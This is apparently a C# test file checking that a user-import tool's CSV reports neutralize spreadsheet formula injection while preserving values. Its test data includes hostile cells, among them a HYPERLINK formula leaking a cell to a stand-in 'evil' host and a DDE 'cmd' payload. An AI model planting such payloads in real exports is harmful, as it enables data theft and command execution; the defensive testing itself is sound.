using System.Text;
using Ferry.Core.Okta;
using Ferry.Core.Outcomes;
using Ferry.Core.Reports;
using Ferry.Testing;

namespace Ferry.Core.Tests.Reports;

/// <summary>
/// Report cells through the real writer (<see cref="ReportWriter"/> into files), read back by CsvHelper with every
/// separator a spreadsheet locale may use, with and without quotes: no cell starts a formula, and every value comes back.
/// </summary>
public sealed class CsvCellsTests
{
    /// <summary>Hostile values (the two of issue 19 first), and legit ones that look like them.</summary>
    public static TheoryData<string> Hostile { get; } =
    [
        "x;=HYPERLINK(\"http://evil/?\"&A1)",
        "b;+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "a,=1",
        "a|=1",
        "\"=1\"",
        "line 1\n=1",
        "line 1\r\n-1+2",
        "a; =1",
        "a\t@x",
        "'=1",
        "a;'+1",
        "''-1",
        "\uFF1D1+1",
        "a;\uFF20SUM(1)",
        "=1",
        "+1",
        "-1",
        "-x@y.com",
        "a;;=1;|=2",
        "\r=1",
        "=\"a\";=\"b\"",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task Reports_WithAHostileCell_ReadWithAnySeparator_StartNoFormula_AndRestoreTheValue(string value)
    {
        var directory = Directory.CreateTempSubdirectory("ferry-csv-cells-").FullName;
        var outcome = new RowOutcome(1, 2, value, value, RowAction.Failed, null, null, [value, "Sales"], "E0000001", value, value, 1);

        await ReportWriter.WriteAsync(new DirectoryReportSink(directory), new[] { outcome }.ToAsyncEnumerable(), _ => Summary(), CancellationToken.None);

        foreach (var (name, columns) in new[] { (ReportNames.Results, ResultsCsv.Columns), (ReportNames.Failed, FailedCsv.Columns) })
        {
            var text = await File.ReadAllTextAsync(Path.Combine(directory, name), Encoding.UTF8, TestContext.Current.CancellationToken);
            Assert.Empty(SpreadsheetCells.Dangerous(text));
            var records = SpreadsheetCells.Read(text, ',');
            Assert.Equal(2, records.Count);
            string Cell(string column) => CsvCells.Restore(records[1][columns.ToList().IndexOf(column)]);
            Assert.Equal((value, value, value), (Cell("login"), Cell("email"), Cell("errorSummary")));
            if (name == ReportNames.Results)
            {
                Assert.Equal((value + ";Sales", value), (Cell("groups"), Cell("column")));
            }
        }

        Directory.Delete(directory, recursive: true);
    }

    [Theory]
    [InlineData("jane@example.com")]
    [InlineData("Smith - Jones")]
    [InlineData("O'Brien")]
    [InlineData("a, b")]
    [InlineData("Sales;Support")]
    [InlineData("E0000001")]
    [InlineData("line 3: 'not-an-email' is not a valid email address")]
    [InlineData("2+2=4")]
    public void Neutralize_LeavesValuesNoReaderCouldRun_AsTheyAre(string value)
    {
        Assert.Same(value, CsvCells.Neutralize(value));
        Assert.Same(value, CsvCells.Restore(value));
    }

    [Fact]
    public void AppendRow_QuotesEveryCellAReaderCouldSplit_AndGuardsFormulas_InputRowsKeepValues()
    {
        var report = new StringBuilder();
        var input = new StringBuilder();

        CsvCells.AppendRow(report, ["plain", "a;b", "a|b", "a\tb", "=1", "-x@y.com", null, "say \"hi\""]);
        CsvCells.AppendInputRow(input, ["=cmd@example.com", "a;b", null, "-x@y.com"]);

        Assert.Equal("plain,\"a;b\",\"a|b\",\"a\tb\",\"'=1\",\"'-x@y.com\",,\"say \"\"hi\"\"\"\r\n", report.ToString());
        Assert.Equal("=cmd@example.com,\"a;b\",,-x@y.com\r\n", input.ToString());
    }

    [Fact]
    public void Restore_UndoesNeutralize_OnRandomText()
    {
        const string alphabet = "=+-@\t\r\n,;|\"' ax\uFF1D\uFF0D";
        var random = new Random(19);
        for (var i = 0; i < 20_000; i++)
        {
            var value = new string([.. Enumerable.Range(0, random.Next(0, 12)).Select(_ => alphabet[random.Next(alphabet.Length)])]);

            var neutralized = CsvCells.Neutralize(value);

            Assert.Equal(value, CsvCells.Restore(neutralized));
            Assert.Equal(value != neutralized, CsvCells.NeedsGuard(value));
            var line = new StringBuilder();
            CsvCells.AppendRow(line, ["1", value, "2"]);
            Assert.Empty(SpreadsheetCells.Dangerous(line.ToString()));
        }
    }

    private static JobSummary Summary() => new()
    {
        File = "users.csv",
        Options = new Dictionary<string, string>(),
        Outcome = "completed",
        Actions = new Dictionary<string, int>(),
        ErrorCodes = new Dictionary<string, int>(),
        Groups = GroupsSummary.None,
        Calls = new Dictionary<string, BucketCalls>(),
        StartedAt = DateTimeOffset.UnixEpoch,
        FinishedAt = DateTimeOffset.UnixEpoch,
        PhaseSeconds = new Dictionary<string, double>(),
    };
}
